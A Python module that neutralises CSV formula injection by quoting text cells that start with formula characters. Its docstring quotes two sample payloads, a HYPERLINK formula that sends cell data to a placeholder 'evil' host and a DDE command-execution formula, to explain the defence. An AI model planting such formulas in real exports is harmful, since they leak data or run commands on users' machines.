"""The one CSV writer: every CSV the app offers and the CLI writes, safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice and Google
Sheets: a scored headline ``=HYPERLINK("http://evil/?"&A1,"Read")`` or ``=cmd|' /C calc'!A0`` in a
download would run on a teacher's machine (OWASP "CSV injection"). Such text cells get a leading
single quote, which the spreadsheet shows as text; a tab or carriage return first, spaces first and
the full-width forms count too. Only text cells: a numeric column (-0.5) stays a number, and so does
text that is a whole number ("-0.5").
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

# OWASP's list, plus the full-width forms some spreadsheets also read as formula starts.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def neutralised(cell: object) -> object:
    """``cell`` with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if not isinstance(cell, str):
        return cell
    first = cell.lstrip(" ")[:1]
    if first not in FORMULA_STARTS or _is_number(cell):
        return cell
    return "'" + cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def safe(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` whose text cells and column names are neutralised; numbers, dates and
    booleans are left as they are."""
    out = table.copy()
    for column in out.columns:
        series = out[column]
        if not (pd.api.types.is_numeric_dtype(series) or pd.api.types.is_datetime64_any_dtype(series)):
            out[column] = series.map(neutralised)
    out.columns = [neutralised(c) for c in out.columns]
    return out


def to_csv(table: pd.DataFrame) -> str:
    """``table`` as CSV text (no index), text cells neutralised: what a download button offers.
    Rows end in CRLF (RFC 4180): Python's writer quotes a cell holding a line-end character only
    when it is part of the row ending, and with "\n" alone a cell's bare CR went out unquoted and
    split its row in two."""
    return safe(table).to_csv(index=False, lineterminator="\r\n")


def write(table: pd.DataFrame, path: str | Path) -> None:
    """``table`` to the file ``path`` as ``to_csv`` writes it."""
    Path(path).write_text(to_csv(table), encoding="utf-8", newline="")
